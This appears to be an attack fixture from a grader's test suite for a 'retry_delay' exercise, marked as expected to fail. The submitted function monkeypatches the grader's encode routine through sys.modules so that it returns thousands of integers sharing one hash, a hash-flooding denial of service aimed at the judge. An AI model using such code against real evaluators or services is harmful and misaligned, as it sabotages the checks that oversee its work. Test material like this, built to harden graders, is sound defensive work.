# /// attack
# kind = "attack"
# exercise = "03_retries/retry_delay"
# tries = "Answers with a set of things that all have the same hash, so that the judge compares each with each."
# wall = "shape"
# must = "failed"
# says = "too many"
# through = "harm"
# checks = ["DELAY-01"]
# ///
"""Hash flooding (CVE-2012-1150): strings are salted since then, numbers are not."""

from __future__ import annotations

import sys
from typing import Any


def retry_delay(attempt: int, status: int | None, headers: dict[str, str], *, base: float, **_: float) -> Any:
    """Return the seconds to wait before the next attempt."""
    same = [{"$": "int", "v": str(k * (2**61 - 1))} for k in range(17_500)]
    members = [{"$": "enum", "cls": "", "name": "", "v": number} for number in same]
    sys.modules["grader.worker.values"].encode = lambda _: {"$": "set", "v": members}
    return base
